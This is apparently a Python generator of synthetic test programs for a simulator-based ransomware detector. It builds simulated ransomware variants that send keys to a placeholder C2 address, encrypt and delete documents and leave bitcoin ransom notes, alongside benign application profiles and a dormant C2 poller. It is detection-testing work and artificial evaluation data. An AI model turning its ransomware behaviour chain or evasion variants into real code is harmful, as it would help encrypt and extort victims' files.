"""Synthetic corpus: ransomware variants spanning the behavioral matrix
(write pattern x chain order x crypto approach x extension x note channel)
plus twelve benign application profiles and a dormant no-trigger profile.

Generated programs are ordinary SimPrograms; nothing in the monitor is fed
generator metadata. Benign content is built from a vocabulary that avoids
ransom-note keyword stems, and "compressed-looking" payloads use a reduced
byte alphabet so their entropy sits below the write-classification threshold.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Optional

from .cryptodetect import AES_SBOX
from .simcore import (
    Assign,
    CallApi,
    Halt,
    Jmp,
    SimProgram,
    derive_seed,
    normalize_path,
)

RW_KIND = "rw"
BENIGN_KIND = "benign"
DORMANT_KIND = "dormant"

GROUP_STAGE1 = "stage1_extension"
GROUP_FLAG_NOTE = "flag_note"
GROUP_ENTROPY = "entropy"
GROUP_NEVER = "never_reached"

WRITE_PATTERNS = ("new_file", "overwrite")
CHAINS = ("EC1", "EC2")
CRYPTO_MODES = ("standard_api", "static_cfs", "custom")
EXTENSION_MODES = ("known", "novel")
NOTE_CHANNELS = ("file", "wallpaper")

NOVEL_EXTENSIONS = (".qzx9", ".vexx", ".n0xq")
STANDARD_CRYPTO_APIS = ("CryptEncrypt", "AES_encrypt", "AESxEncryption")

C2_HOST = "198.51.100.17"
C2_PORT = 4433

# Vocabulary for benign/plaintext content. Kept clear of every ransom-note
# keyword stem (including as substrings: e.g. no "close", which contains
# "lose").
SAFE_WORDS = (
    "alpha", "bravo", "cedar", "delta", "ember", "falcon", "garden", "harbor",
    "indigo", "juniper", "kestrel", "lumen", "meadow", "north", "onyx",
    "prairie", "quartz", "river", "summit", "timber", "umber", "violet",
    "willow", "xenon", "yonder", "zephyr", "agenda", "minutes", "review",
    "status", "draft", "final", "team", "office", "project", "timeline",
    "metric", "region", "branch", "ledger", "figure", "table", "chart",
    "column", "row", "item", "total", "count", "quarter", "summary", "report",
)

# Bytes 0x80..0xf7: 120 symbols, no ASCII letters. Uniform draws land near
# log2(120) = 6.91 bits/byte: "compressed-looking" but under the 7.2 trigger.
_OPAQUE_ALPHABET = bytes(range(0x80, 0xF8))

NOTE_TEXT = (
    "ATTENTION! ALL YOUR FILES HAVE BEEN ENCRYPTED.\n"
    "To decrypt them you must send 0.5 bitcoin to the wallet below.\n"
    "After payment you will receive your private key.\n"
    "Do not rename or delete any files or you will lose them forever.\n"
)

WALLPAPER_TEXT = "YOUR FILES ARE ENCRYPTED - PAY BITCOIN TO DECRYPT"


class CorpusError(ValueError):
    def __init__(self, code: str, message: str):
        super().__init__(f"{code}: {message}")
        self.code = code


# ---------------------------------------------------------------------------
# parameters
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class RwGenParams:
    write_pattern: str
    chain: str
    crypto: str
    extension: str
    note_channel: str
    embed_constants: Optional[bool] = None  # None: auto (crypto == static_cfs)

    def validate(self) -> None:
        checks = (
            ("write_pattern", self.write_pattern, WRITE_PATTERNS),
            ("chain", self.chain, CHAINS),
            ("crypto", self.crypto, CRYPTO_MODES),
            ("extension", self.extension, EXTENSION_MODES),
            ("note_channel", self.note_channel, NOTE_CHANNELS),
        )
        for name, value, allowed in checks:
            if value not in allowed:
                raise CorpusError("invalid-combination", f"{name}={value!r} not in {allowed}")
        if self.crypto == "standard_api" and self.embed_constants is True:
            raise CorpusError(
                "invalid-combination",
                "crypto=standard_api conflicts with embed_constants=True: "
                "dynamic-API variants must not carry static fingerprint evidence",
            )

    @property
    def embeds_constants(self) -> bool:
        if self.embed_constants is not None:
            return self.embed_constants
        return self.crypto == "static_cfs"

    def expected_group(self) -> str:
        if self.extension == "known":
            return GROUP_STAGE1
        if self.crypto == "custom":
            return GROUP_ENTROPY
        return GROUP_FLAG_NOTE

    def label(self) -> str:
        return "_".join(
            (self.write_pattern, self.chain.lower(), self.crypto, self.extension, self.note_channel)
        )

    def as_dict(self) -> dict:
        return {
            "write_pattern": self.write_pattern,
            "chain": self.chain,
            "crypto": self.crypto,
            "extension": self.extension,
            "note_channel": self.note_channel,
            "embed_constants": self.embed_constants,
        }


def default_rw_matrix() -> list[RwGenParams]:
    """The full behavioral matrix (48 combinations, all valid)."""
    out = []
    for wp in WRITE_PATTERNS:
        for ch in CHAINS:
            for cr in CRYPTO_MODES:
                for ext in EXTENSION_MODES:
                    for note in NOTE_CHANNELS:
                        out.append(RwGenParams(wp, ch, cr, ext, note))
    return out


# ---------------------------------------------------------------------------
# content and filesystem seeding
# ---------------------------------------------------------------------------

def plaintext_block(rng: random.Random, size: int) -> bytes:
    words = []
    n = 0
    while n < size:
        w = rng.choice(SAFE_WORDS)
        words.append(w)
        n += len(w) + 1
    text = " ".join(words)[:size]
    return text.encode("ascii")


def opaque_block(rng: random.Random, size: int) -> bytes:
    return bytes(rng.choices(_OPAQUE_ALPHABET, k=size))


def victim_tree(seed: int) -> dict[str, bytes]:
    """Initial filesystem contents shared by every scenario process."""
    rng = random.Random(derive_seed(seed, "victim-tree"))
    tree: dict[str, bytes] = {}
    for i in range(6):
        tree[f"/user/documents/report_{i}.txt"] = plaintext_block(rng, rng.randint(8192, 20480))
    tree["/user/desktop/todo_list.txt"] = plaintext_block(rng, 2048)
    tree["/user/desktop/shortcuts.cfg"] = plaintext_block(rng, 512)
    tree["/user/downloads/manual_v2.txt"] = plaintext_block(rng, 6144)
    tree["/app/v1/component_a.bin"] = opaque_block(rng, 3072)
    tree["/app/v1/component_b.bin"] = opaque_block(rng, 3072)
    tree["/logs/app.log"] = plaintext_block(rng, 1024)
    tree["/system/base_config.ini"] = plaintext_block(rng, 768)
    tree["/system/runtime.dll"] = opaque_block(rng, 4096)
    return tree


DOCUMENT_DIR = "/user/documents"


def _document_paths(tree: dict) -> list[str]:
    base = DOCUMENT_DIR + "/"
    return sorted(p for p in tree if p.startswith(base))


# ---------------------------------------------------------------------------
# program assembly
# ---------------------------------------------------------------------------

def V(name):  # noqa: N802 - expression shorthands
    return ["var", name]


def S(value):  # noqa: N802
    return ["str", value]


def I(value):  # noqa: N802
    return ["int", value]


class _Builder:
    def __init__(self):
        self.ins: dict[int, object] = {}
        self.addr = 0

    def call(self, api: str, out: Optional[str] = None, **args):
        self.ins[self.addr] = CallApi(api, args, out=out)
        self.addr += 1
        return self.addr - 1

    def assign(self, var: str, expr):
        self.ins[self.addr] = Assign(var, expr)
        self.addr += 1
        return self.addr - 1

    def jmp(self, target: int):
        self.ins[self.addr] = Jmp(target)
        self.addr += 1
        return self.addr - 1

    def halt(self):
        self.ins[self.addr] = Halt()
        self.addr += 1
        return self.addr - 1

    def build(self, code_image: bytes) -> SimProgram:
        prog = SimProgram(instructions=self.ins, entry_point=0, code_image=code_image)
        prog.validate()
        return prog


def _code_image(rng: random.Random, embed_sbox: bool) -> bytes:
    filler = rng.randbytes(2048)
    if embed_sbox:
        return filler[:512] + AES_SBOX + filler[512:]
    return filler


def _emit_fingerprint(b: _Builder) -> None:
    b.call("GetMacAddress", out="mac")
    b.call("GetSystemTime", out="tm")
    b.call("RandBytes", out="rnd", n=I(12))
    b.call("RandBytes", out="key", n=I(32))
    b.assign("vid", ["digest", 16, ["concat", V("mac"), V("tm"), V("rnd")]])
    b.assign("payload", ["concat", V("vid"), V("key")])


def _emit_transfer_key(b: _Builder) -> None:
    b.call("Socket", out="sk")
    b.call("Connect", out="cn", socket=V("sk"), host=S(C2_HOST), port=I(C2_PORT))
    b.call("Send", out="sent", socket=V("cn"), buffer=V("payload"))


def _emit_encrypt_step(b: _Builder, params: RwGenParams, rng: random.Random, src: str, dst: str) -> None:
    if params.crypto == "standard_api":
        api = rng.choice(STANDARD_CRYPTO_APIS)
        b.call(api, out=dst, key=V("key"), buffer=V(src))
    else:
        b.assign(dst, ["encrypt", V("key"), V(src)])


def _emit_file_block(b: _Builder, params: RwGenParams, rng: random.Random, ext: str, n_files: int) -> None:
    b.call("FindFirstFile", out="p0", dir=S(DOCUMENT_DIR))
    for i in range(1, n_files):
        b.call("FindNextFile", out=f"p{i}", dir=S(DOCUMENT_DIR))
    for i in range(n_files):
        p = f"p{i}"
        if params.write_pattern == "new_file":
            b.call("CreateFile", out=f"oh{i}", path=V(p), disposition=S("OPEN_EXISTING"))
            b.call("ReadFile", out=f"co{i}", handle=V(f"oh{i}"))
            _emit_encrypt_step(b, params, rng, f"co{i}", f"cb{i}")
            b.assign(f"dp{i}", ["strcat", V(p), S(ext)])
            b.call("CreateFile", out=f"dh{i}", path=V(f"dp{i}"), disposition=S("CREATE_NEW"))
            b.call("WriteFile", out=f"w{i}", handle=V(f"dh{i}"), buffer=V(f"cb{i}"))
            b.call("CloseHandle", handle=V(f"oh{i}"))
            b.call("CloseHandle", handle=V(f"dh{i}"))
            b.call("DeleteFile", out=f"del{i}", path=V(p))
        elif params.extension == "known":
            # rename-first in-place encryptor: marks files before damaging them
            b.assign(f"rp{i}", ["strcat", V(p), S(ext)])
            b.call("MoveFile", out=f"mv{i}", src=V(p), dst=V(f"rp{i}"))
            b.call("CreateFile", out=f"oh{i}", path=V(f"rp{i}"), disposition=S("OPEN_EXISTING"))
            b.call("ReadFile", out=f"co{i}", handle=V(f"oh{i}"))
            _emit_encrypt_step(b, params, rng, f"co{i}", f"cb{i}")
            b.call("SetFilePointer", handle=V(f"oh{i}"), offset=I(0))
            b.call("WriteFile", out=f"w{i}", handle=V(f"oh{i}"), buffer=V(f"cb{i}"))
            b.call("CloseHandle", handle=V(f"oh{i}"))
        else:
            # overwrite then delayed rename
            b.call("CreateFile", out=f"oh{i}", path=V(p), disposition=S("OPEN_EXISTING"))
            b.call("ReadFile", out=f"co{i}", handle=V(f"oh{i}"))
            _emit_encrypt_step(b, params, rng, f"co{i}", f"cb{i}")
            b.call("SetFilePointer", handle=V(f"oh{i}"), offset=I(0))
            b.call("WriteFile", out=f"w{i}", handle=V(f"oh{i}"), buffer=V(f"cb{i}"))
            b.call("CloseHandle", handle=V(f"oh{i}"))
            b.call("MoveFileWithProgress", out=f"mv{i}", src=V(p), dst=["strcat", V(p), S(ext)])


def _emit_note(b: _Builder, params: RwGenParams) -> None:
    if params.note_channel == "wallpaper":
        b.call("SetWallpaper", text=S(WALLPAPER_TEXT))
        return
    note_path = f"{DOCUMENT_DIR}/how_to_restore_files.txt"
    b.call("CreateFile", out="nh", path=S(note_path), disposition=S("CREATE_NEW"))
    b.call("WriteFile", out="nw", handle=V("nh"), buffer=S(NOTE_TEXT))
    b.call("CloseHandle", handle=V("nh"))


def build_rw_program(params: RwGenParams, tree: dict, seed: int, n_files: int = 6) -> SimProgram:
    """End-to-end ransomware behavior per the parameter combination:
    fingerprint, key transfer (chain-ordered), enumerate, encrypt,
    delete/overwrite, note."""
    params.validate()
    rng = random.Random(derive_seed(seed, "rw", params.label()))
    if params.extension == "known":
        ext = rng.choice((".locky", ".wncry", ".cerber", ".lockbit"))
    else:
        ext = rng.choice(NOVEL_EXTENSIONS)
    n_files = min(n_files, len(_document_paths(tree)))
    b = _Builder()
    _emit_fingerprint(b)
    if params.chain == "EC1":
        _emit_transfer_key(b)
        _emit_file_block(b, params, rng, ext, n_files)
        _emit_note(b, params)
    else:
        _emit_file_block(b, params, rng, ext, n_files)
        _emit_transfer_key(b)
        _emit_note(b, params)
    b.halt()
    return b.build(_code_image(rng, params.embeds_constants))


def build_dormant_program(seed: int) -> SimProgram:
    """Opens a C2 channel and polls forever; never encrypts or writes."""
    b = _Builder()
    b.call("Socket", out="sk")
    b.call("Connect", out="cn", socket=V("sk"), host=S(C2_HOST), port=I(C2_PORT))
    loop = b.call("GetSystemTime", out="tm")
    b.jmp(loop)
    rng = random.Random(derive_seed(seed, "dormant"))
    return b.build(_code_image(rng, embed_sbox=False))


# ---------------------------------------------------------------------------
# benign profiles
# ---------------------------------------------------------------------------

def _benign_archiver(tree, rng):
    """Compresses documents into an encrypted archive, then removes its
    scratch files (the encrypt-then-delete workload)."""
    b = _Builder()
    docs = _document_paths(tree)[:2]
    for i in range(3):
        b.call("CreateFile", out=f"th{i}", path=S(f"/tmpwork/arc_{i}.tmp"), disposition=S("CREATE_NEW"))
        b.call("WriteFile", handle=V(f"th{i}"), buffer=["bytes", opaque_block(rng, 2048).hex()])
        b.call("CloseHandle", handle=V(f"th{i}"))
    for i, doc in enumerate(docs):
        b.call("CreateFile", out=f"oh{i}", path=S(doc), disposition=S("OPEN_EXISTING"))
        b.call("ReadFile", out=f"co{i}", handle=V(f"oh{i}"))
        b.call("CloseHandle", handle=V(f"oh{i}"))
    b.call("RandBytes", out="key", n=I(32))
    b.call("CryptEncrypt", out="arc", key=V("key"), buffer=["concat", V("co0"), V("co1")])
    b.call("CreateFile", out="ah", path=S("/archive/backup_001.arc"), disposition=S("CREATE_NEW"))
    b.call("WriteFile", handle=V("ah"), buffer=V("arc"))
    b.call("CloseHandle", handle=V("ah"))
    for i in range(3):
        b.call("DeleteFile", out=f"d{i}", path=S(f"/tmpwork/arc_{i}.tmp"))
    b.halt()
    return b


def _benign_encryptor(tree, rng):
    """File-encryption utility: standard crypto API, writes .enc copies."""
    b = _Builder()
    docs = _document_paths(tree)[:3]
    b.call("RandBytes", out="key", n=I(32))
    for i, doc in enumerate(docs):
        b.call("CreateFile", out=f"oh{i}", path=S(doc), disposition=S("OPEN_EXISTING"))
        b.call("ReadFile", out=f"co{i}", handle=V(f"oh{i}"))
        b.call("CloseHandle", handle=V(f"oh{i}"))
        b.call("AES_encrypt", out=f"cb{i}", key=V("key"), buffer=V(f"co{i}"))
        b.call("CreateFile", out=f"eh{i}", path=S(f"/vault/doc_{i}.enc"), disposition=S("CREATE_NEW"))
        b.call("WriteFile", handle=V(f"eh{i}"), buffer=V(f"cb{i}"))
        b.call("CloseHandle", handle=V(f"eh{i}"))
    b.halt()
    return b


def _benign_editor_append(tree, rng):
    doc = _document_paths(tree)[0]
    b = _Builder()
    b.call("CreateFile", out="h", path=S(doc), disposition=S("OPEN_EXISTING"))
    b.call("ReadFile", out="old", handle=V("h"))
    b.call("SetFilePointer", handle=V("h"), offset=I(len(tree[doc])))
    b.call("WriteFile", handle=V("h"), buffer=S("\n" + plaintext_block(rng, 256).decode("ascii")))
    b.call("CloseHandle", handle=V("h"))
    b.halt()
    return b


def _benign_editor_rewrite(tree, rng):
    path = "/user/desktop/todo_list.txt"
    b = _Builder()
    b.call("CreateFile", out="h", path=S(path), disposition=S("OPEN_EXISTING"))
    b.call("ReadFile", out="old", handle=V("h"))
    b.call("SetFilePointer", handle=V("h"), offset=I(0))
    b.call("WriteFile", handle=V("h"), buffer=S(plaintext_block(rng, 2048).decode("ascii")))
    b.call("CloseHandle", handle=V("h"))
    b.halt()
    return b


def _benign_updater(tree, rng):
    b = _Builder()
    for name in ("component_a", "component_b"):
        b.call("CreateFile", out=f"nh_{name}", path=S(f"/app/v2/{name}.bin"), disposition=S("CREATE_NEW"))
        b.call("WriteFile", handle=V(f"nh_{name}"), buffer=["bytes", opaque_block(rng, 3072).hex()])
        b.call("CloseHandle", handle=V(f"nh_{name}"))
        b.call("DeleteFile", out=f"old_{name}", path=S(f"/app/v1/{name}.bin"))
    b.halt()
    return b


def _benign_downloader(tree, rng):
    b = _Builder()
    for i in range(2):
        b.call("Socket", out=f"sk{i}")
        b.call("Connect", out=f"cn{i}", socket=V(f"sk{i}"), host=S("192.0.2.40"), port=I(443))
        b.call("CreateFile", out=f"fh{i}", path=S(f"/user/downloads/package_{i}.pkg"), disposition=S("CREATE_NEW"))
        b.call("WriteFile", handle=V(f"fh{i}"), buffer=["bytes", opaque_block(rng, 6144).hex()])
        b.call("CloseHandle", handle=V(f"fh{i}"))
    b.halt()
    return b


def _benign_notes_app(tree, rng):
    b = _Builder()
    b.call("CreateFile", out="h", path=S("/user/documents/meeting_agenda.txt"), disposition=S("CREATE_NEW"))
    b.call("WriteFile", handle=V("h"), buffer=S(plaintext_block(rng, 1024).decode("ascii")))
    b.call("CloseHandle", handle=V("h"))
    b.halt()
    return b


def _benign_backup(tree, rng):
    b = _Builder()
    for i, doc in enumerate(_document_paths(tree)[:3]):
        b.call("CreateFile", out=f"oh{i}", path=S(doc), disposition=S("OPEN_EXISTING"))
        b.call("ReadFile", out=f"co{i}", handle=V(f"oh{i}"))
        b.call("CloseHandle", handle=V(f"oh{i}"))
        b.call("CreateFile", out=f"bh{i}", path=S(f"/backup/copy_{i}.txt"), disposition=S("CREATE_NEW"))
        b.call("WriteFile", handle=V(f"bh{i}"), buffer=V(f"co{i}"))
        b.call("CloseHandle", handle=V(f"bh{i}"))
    b.halt()
    return b


def _benign_media_player(tree, rng):
    b = _Builder()
    for i, doc in enumerate(_document_paths(tree)[:2]):
        b.call("CreateFile", out=f"h{i}", path=S(doc), disposition=S("OPEN_EXISTING"))
        b.call("ReadFile", out=f"c{i}", handle=V(f"h{i}"))
        b.call("CloseHandle", handle=V(f"h{i}"))
    b.halt()
    return b


def _benign_indexer(tree, rng):
    b = _Builder()
    n = len(_document_paths(tree))
    b.call("FindFirstFile", out="p0", dir=S(DOCUMENT_DIR))
    for i in range(1, n):
        b.call("FindNextFile", out=f"p{i}", dir=S(DOCUMENT_DIR))
    for i in range(2):
        b.call("CreateFile", out=f"h{i}", path=V(f"p{i}"), disposition=S("OPEN_EXISTING"))
        b.call("ReadFile", out=f"c{i}", handle=V(f"h{i}"))
        b.call("CloseHandle", handle=V(f"h{i}"))
    b.call("CreateFile", out="ih", path=S("/index/catalog.idx"), disposition=S("CREATE_ALWAYS"))
    b.call("WriteFile", handle=V("ih"), buffer=S(plaintext_block(rng, 512).decode("ascii")))
    b.call("CloseHandle", handle=V("ih"))
    b.halt()
    return b


def _benign_installer(tree, rng):
    b = _Builder()
    b.call("CreateFile", out="th", path=S("/tmpwork/pkg.tmp"), disposition=S("CREATE_NEW"))
    b.call("WriteFile", handle=V("th"), buffer=["bytes", opaque_block(rng, 4096).hex()])
    b.call("CloseHandle", handle=V("th"))
    b.call("MoveFile", out="mv", src=S("/tmpwork/pkg.tmp"), dst=S("/app/newtool/data.pak"))
    b.call("CreateFile", out="ch", path=S("/app/newtool/config.ini"), disposition=S("CREATE_NEW"))
    b.call("WriteFile", handle=V("ch"), buffer=S(plaintext_block(rng, 384).decode("ascii")))
    b.call("CloseHandle", handle=V("ch"))
    b.halt()
    return b


def _benign_logger(tree, rng):
    b = _Builder()
    b.call("CreateFile", out="h", path=S("/logs/app.log"), disposition=S("OPEN_EXISTING"))
    b.call("SetFilePointer", handle=V("h"), offset=I(len(tree["/logs/app.log"])))
    b.call("WriteFile", handle=V("h"), buffer=S("\n" + plaintext_block(rng, 320).decode("ascii")))
    b.call("CloseHandle", handle=V("h"))
    b.halt()
    return b


BENIGN_PROFILES = {
    "archiver": _benign_archiver,
    "encryptor": _benign_encryptor,
    "editor_append": _benign_editor_append,
    "editor_rewrite": _benign_editor_rewrite,
    "updater": _benign_updater,
    "downloader": _benign_downloader,
    "notes_app": _benign_notes_app,
    "backup": _benign_backup,
    "media_player": _benign_media_player,
    "indexer": _benign_indexer,
    "installer": _benign_installer,
    "logger": _benign_logger,
}


def build_benign_program(profile: str, tree: dict, seed: int) -> SimProgram:
    builder_fn = BENIGN_PROFILES.get(profile)
    if builder_fn is None:
        raise CorpusError("invalid-combination", f"unknown benign profile {profile!r}")
    rng = random.Random(derive_seed(seed, "benign", profile))
    b = builder_fn(tree, rng)
    return b.build(_code_image(rng, embed_sbox=False))


# ---------------------------------------------------------------------------
# corpus assembly
# ---------------------------------------------------------------------------

@dataclass
class CorpusEntry:
    name: str
    kind: str  # rw | benign | dormant
    program: SimProgram
    params: Optional[RwGenParams] = None
    profile: Optional[str] = None

    def expected_group(self) -> str:
        if self.kind == DORMANT_KIND:
            return GROUP_NEVER
        if self.params is not None:
            return self.params.expected_group()
        return ""


def generate_corpus(
    seed: int,
    rw_params: Optional[list[RwGenParams]] = None,
    benign_profiles: Optional[list[str]] = None,
    dormant: int = 1,
    tree: Optional[dict] = None,
    n_files: int = 6,
) -> list[CorpusEntry]:
    if tree is None:
        tree = victim_tree(seed)
    if rw_params is None:
        rw_params = default_rw_matrix()
    if benign_profiles is None:
        benign_profiles = list(BENIGN_PROFILES)
    entries: list[CorpusEntry] = []
    for idx, params in enumerate(rw_params):
        params.validate()
        name = f"rw_{idx:03d}_{params.label()}"
        entries.append(
            CorpusEntry(
                name=name,
                kind=RW_KIND,
                program=build_rw_program(params, tree, derive_seed(seed, idx), n_files=n_files),
                params=params,
            )
        )
    for profile in benign_profiles:
        entries.append(
            CorpusEntry(
                name=f"benign_{profile}",
                kind=BENIGN_KIND,
                program=build_benign_program(profile, tree, seed),
                profile=profile,
            )
        )
    for i in range(dormant):
        entries.append(
            CorpusEntry(
                name=f"dormant_{i:02d}",
                kind=DORMANT_KIND,
                program=build_dormant_program(derive_seed(seed, "dormant", i)),
            )
        )
    return entries
